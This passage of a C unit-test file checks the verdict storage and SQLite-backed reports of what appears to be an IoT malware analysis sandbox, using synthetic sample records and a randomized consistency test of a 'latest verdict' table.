			"sha256", rows[i].sha, "arch", rows[i].arch, "family", "mirai", "analysed",
			"2026-01-01T00:00:00Z", "seconds", 30.0 + (double)i, "dynamic", "ran",
			rows[i].ran, "lan_attack", "detected", rows[i].lan, "scan", "detected",
			true, "cnc", "host", "cnc.example", "port", 23, "dns", "cnc.example");
		assert_int_equal(box_store_verdict(&w, v, NULL, NULL), 0);
		json_decref(v);
	}
	core_store_sync(&w);
	assert_int_equal(box_report_testbed(&st, &out), 0);
	assert_int_equal(json_array_size(out), 3);
	json_t *mips = json_array_get(out, 0), *all = json_array_get(out, 2);
	assert_string_equal(json_string_value(json_object_get(mips, "arch")), "mips");
	assert_int_equal(json_integer_value(json_object_get(mips, "samples")), 3);
	assert_int_equal(json_integer_value(json_object_get(mips, "lan_attack")), 2);
	assert_string_equal(json_string_value(json_object_get(all, "arch")), "all");
	assert_int_equal(json_integer_value(json_object_get(all, "samples")),
			 5); /* arm did not run */
	assert_int_equal(json_integer_value(json_object_get(all, "lan_attack")), 3);
	assert_true(json_real_value(json_object_get(all, "share")) > 0.59 &&
		    json_real_value(json_object_get(all, "share")) < 0.61);
	json_decref(out);
	assert_int_equal(box_report_families(&st, &out), 0);
	assert_int_equal(json_integer_value(json_object_get(json_array_get(out, 0), "samples")), 6);
	json_decref(out);
	assert_int_equal(box_report_samples(&st, 2, &out), 0);
	assert_int_equal(json_array_size(out), 2);
	assert_string_equal(json_string_value(json_object_get(json_array_get(out, 0), "sha256")),
			    "a2");
	json_decref(out);
	assert_int_equal(box_report_summary(&st, &out), 0);
	assert_int_equal(json_integer_value(json_object_get(out, "analysed")), 6);
	assert_int_equal(json_integer_value(json_object_get(out, "under_minute")), 6);
	json_decref(out);
	core_store_close(&st);
	core_store_close(&w);
	char cmd[128];
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	assert_int_equal(system(cmd), 0);
}

/* The first column of a query's first row. */
static int query_int(sqlite3 *db, const char *sql)
{
	sqlite3_stmt *q;
	assert_int_equal(sqlite3_prepare_v2(db, sql, -1, &q, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(q), SQLITE_ROW);
	int n = sqlite3_column_int(q, 0);
	sqlite3_finalize(q);
	return n;
}

/* Rows of box_latest_verdict that differ from the latest verdicts computed the old way (the
 * view box_latest: no later verdict of the same sample), either way. */
#define OLD_LATEST \
	"SELECT sha256, id, arch, family, seconds, dynamic, scan, lan_attack, ddos, cnc, word " \
	"FROM box_latest"
static int latest_differences(sqlite3 *db)
{
	return query_int(db, "SELECT (SELECT count(*) FROM (SELECT * FROM box_latest_verdict "
			     "EXCEPT " OLD_LATEST ")) + (SELECT count(*) FROM (" OLD_LATEST
			     " EXCEPT SELECT * FROM box_latest_verdict)) + (SELECT count(*) FROM "
			     "box_latest_verdict) - (SELECT count(*) FROM box_latest)");
}

static void exec_ok(sqlite3 *db, const char *sql)
{
	char *err = NULL;
	if (sqlite3_exec(db, sql, NULL, NULL, &err) != SQLITE_OK)
		fail_msg("%s: %s", sql, err);
}

/* The report readers' JSON, the same over box_latest_verdict and over the view box_latest. */
static char *reports_json(sqlite3 *db)
{
	struct core_store st = {.db = db};
	json_t *all = json_array(), *v;
	assert_int_equal(box_report_testbed(&st, &v), 0);
	json_array_append_new(all, v);
	assert_int_equal(box_report_families(&st, &v), 0);
	json_array_append_new(all, v);
	assert_int_equal(box_report_summary(&st, &v), 0);
	json_array_append_new(all, v);
	char *s = json_dumps(all, JSON_COMPACT);
	json_decref(all);
	return s;
}

/* box_latest_verdict after inserts, deletes and updates in random order (a sample's verdicts
 * inserted out of id order, its latest deleted, a verdict moved to another sample, a column of
 * the latest changed), and its fill when a store made before it is opened by a writer. */
static void test_latest_verdict_table(void **state)
{
	(void)state;
	sqlite3 *db;
	assert_int_equal(sqlite3_open(":memory:", &db), SQLITE_OK);
	assert_int_equal(box_store_schema_db(db), SQLITE_OK);
	static const char *const fams[] = {"mirai", "gafgyt", NULL, "tsunami"};
	static const char *const words[] = {"malicious", "clean", NULL, "7"};
	uint32_t r = 777;
	int ids = 0;
	for (int step = 0; step < 2000; step++) {
		r = r * 1103515245u + 12345u;
		unsigned what = (r >> 16) % 10, sha = (r >> 8) % 23,
			 id = ids ? (r >> 4) % ids + 1 : 0;
		const char *fam = fams[(r >> 20) % LIB_ARRAY_LEN(fams)];
		const char *word = words[(r >> 24) % LIB_ARRAY_LEN(words)];
		char *sql;
		if (what < 5 || !ids) { /* an insert, at times with an id below the latest */
			ids++;
			sql = sqlite3_mprintf("INSERT INTO box_results(id, sha256, arch, family, "
					      "analysed, seconds,"
					      " dynamic, scan, lan_attack, ddos, killer, "
					      "persistence, cnc, verdict,"
					      " word) VALUES (%d, 's%u', 'mips', %Q, 'x', %u, %u, "
					      "%u, 0, 0, 0, 0, %u,"
					      " '{}', %Q)",
					      what == 4 ? -ids : ids, sha, fam, step % 90, step & 1,
					      (r >> 3) & 1, (r >> 5) % 3, word);
		} else if (what < 7) {
			sql = sqlite3_mprintf("DELETE FROM box_results WHERE id = %u OR id = -%u",
					      id, id);
		} else if (what < 8) {
			sql = sqlite3_mprintf("DELETE FROM box_results WHERE sha256 = 's%u'", sha);
		} else if (what < 9) {
			sql = sqlite3_mprintf("UPDATE box_results SET sha256 = 's%u' WHERE id = %u",
					      sha, id);
		} else {
			sql = sqlite3_mprintf(
				"UPDATE box_results SET family = %Q, word = %Q, "
				"seconds = seconds + 1 WHERE sha256 = 's%u' AND id = "
				"(SELECT max(id) FROM box_results WHERE sha256 = 's%u')",
				fam, word, sha, sha);
		}
		exec_ok(db, sql);
		sqlite3_free(sql);
		if (latest_differences(db))
			fail_msg("step %d (%u): box_latest_verdict differs", step, what);
	}
	/* The test did keep samples. */
	assert_true(query_int(db, "SELECT count(*) FROM box_latest_verdict") > 10);
	/* The readers give the same over the table as over the view. */
	char *with = reports_json(db);
	/* A store made before the table and its triggers, then opened by a writer: filled from
	 * the verdicts. */
	exec_ok(db, "DROP TABLE box_latest_verdict; DROP TRIGGER box_latest_insert;"
		    " DROP TRIGGER box_latest_delete; DROP TRIGGER box_latest_update;");
	char *without = reports_json(db);
	assert_string_equal(with, without);
	exec_ok(db, "INSERT INTO box_results(sha256, arch, family, analysed, seconds, dynamic, "
		    "scan, lan_attack, ddos, killer, persistence, cnc, verdict, word) SELECT "
		    "sha256, arch, 'later', analysed, seconds, dynamic, scan, lan_attack, ddos, "
		    "killer, persistence, cnc, verdict, word FROM box_results WHERE id % 3 = 0");
	assert_int_equal(box_store_schema_db(db), SQLITE_OK);
	assert_int_equal(latest_differences(db), 0);
	/* Opened again: not filled twice. */
	assert_int_equal(box_store_schema_db(db), SQLITE_OK);
	assert_int_equal(latest_differences(db), 0);
	free(with);
	free(without);
	sqlite3_close(db);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_elf_headers),
		cmocka_unit_test(test_elf_hostile),
		cmocka_unit_test(test_packer),
		cmocka_unit_test(test_strings),
		cmocka_unit_test(test_hashes),
		cmocka_unit_test(test_yara_families),
		cmocka_unit_test(test_dns),
		cmocka_unit_test(test_mirai_cnc),
		cmocka_unit_test(test_gafgyt_silent),
		cmocka_unit_test(test_irc_cnc),
		cmocka_unit_test(test_telnet),
		cmocka_unit_test(test_http_upnp),
		cmocka_unit_test(test_packets),
		cmocka_unit_test(test_verdict_decisions),
		cmocka_unit_test(test_seccomp_filter),
		cmocka_unit_test(test_store_report),
		cmocka_unit_test(test_latest_verdict_table),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
